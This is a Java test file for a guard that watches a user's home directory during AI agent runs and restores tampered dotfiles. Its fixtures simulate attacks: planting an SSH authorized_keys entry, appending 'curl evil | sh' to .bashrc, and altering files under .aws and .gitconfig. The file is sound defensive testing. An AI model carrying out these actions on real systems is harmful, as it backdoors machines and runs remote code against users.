package dev.ensemble.agents.workspace;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ensemble.agents.enforce.Policy;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The attempt guard's watch on the user's home (policy.watch_home), without a sandbox. */
class HomeWatchTest {
    @TempDir
    Path tmp;
    private Path home;
    private Workspace ws;

    @BeforeEach
    void repository() throws Exception {
        TempRepo repo = TempRepo.create(tmp.resolve("repo"), "README.md", "hi\n");
        home = Files.createDirectories(tmp.resolve("home"));
        ws = new WorkspaceManager(repo.root()).create("r1", "t1", "HEAD", List.of());
    }

    private AttemptGuard arm() {
        return AttemptGuard.arm(ws, List.of(), true, Optional.empty(), home, Policy.DEFAULT.watchHome());
    }

    @Test
    void aPlantedAuthorizedKeysFileIsRemovedWithItsNewFolderAndReported() throws Exception {
        AttemptGuard guard = arm();
        Files.createDirectories(home.resolve(".ssh"));
        Files.writeString(home.resolve(".ssh/authorized_keys"), "ssh-ed25519 AAAA evil\n");

        List<AttemptGuard.Finding> found = guard.checkAndUndo();

        assertThat(found).singleElement().satisfies(f -> {
            assertThat(f.path()).isEqualTo("~/.ssh/authorized_keys");
            assertThat(f.rule()).isEqualTo("home-file-modified");
            assertThat(f.restored()).isTrue();
            assertThat(f.line()).contains("created outside the repository");
        });
        assertThat(home.resolve(".ssh")).doesNotExist();
    }

    @Test
    void anEditedBashrcComesBackWithItsContentAndMode() throws Exception {
        Path bashrc = home.resolve(".bashrc");
        Files.writeString(bashrc, "alias ll='ls -l'\n");
        Files.setPosixFilePermissions(bashrc, PosixFilePermissions.fromString("rw-------"));
        Files.writeString(home.resolve(".gitconfig"), "[user]\n\tname = me\n");
        AttemptGuard guard = arm();
        Files.writeString(bashrc, "curl evil | sh\n", java.nio.file.StandardOpenOption.APPEND);
        Files.setPosixFilePermissions(bashrc, PosixFilePermissions.fromString("rwxrwxrwx"));
        Files.delete(home.resolve(".gitconfig"));

        List<AttemptGuard.Finding> found = guard.checkAndUndo();

        assertThat(found).extracting(AttemptGuard.Finding::path).containsExactly("~/.bashrc", "~/.gitconfig");
        assertThat(found).allMatch(AttemptGuard.Finding::restored);
        assertThat(Files.readString(bashrc)).isEqualTo("alias ll='ls -l'\n");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(bashrc))).isEqualTo("rw-------");
        assertThat(Files.readString(home.resolve(".gitconfig"))).contains("name = me");
    }

    @Test
    void aFileTooLargeToCopyIsReportedAsNotRestored() throws Exception {
        Path big = Files.createDirectories(home.resolve(".aws")).resolve("big");
        Files.write(big, new byte[(int) HomeWatch.MAX_COPY + 1]);
        AttemptGuard guard = arm();
        Files.writeString(big, "changed");

        assertThat(guard.checkAndUndo()).singleElement().satisfies(f -> {
            assertThat(f.restored()).isFalse();
            assertThat(f.restoration()).contains("no copy was kept");
        });
    }

    @Test
    void filesOutsideTheGlobsAndATouchWithTheSameBytesAreNotFindings() throws Exception {
        Files.writeString(home.resolve(".profile"), "export A=1\n");
        AttemptGuard guard = arm();
        Files.writeString(home.resolve("notes.txt"), "mine\n");
        Files.createDirectories(home.resolve("project")).resolve("x").toFile().createNewFile();
        Files.writeString(home.resolve(".profile"), "export A=1\n");  // rewritten, same bytes and mode

        assertThat(guard.checkAndUndo()).isEmpty();
    }

    @Test
    void anEmptyWatchHomeWatchesNothing() throws Exception {
        AttemptGuard guard = AttemptGuard.arm(ws, List.of(), true, Optional.empty(), home, List.of());
        Files.writeString(home.resolve(".bashrc"), "evil\n");

        assertThat(guard.checkAndUndo()).isEmpty();
    }
}
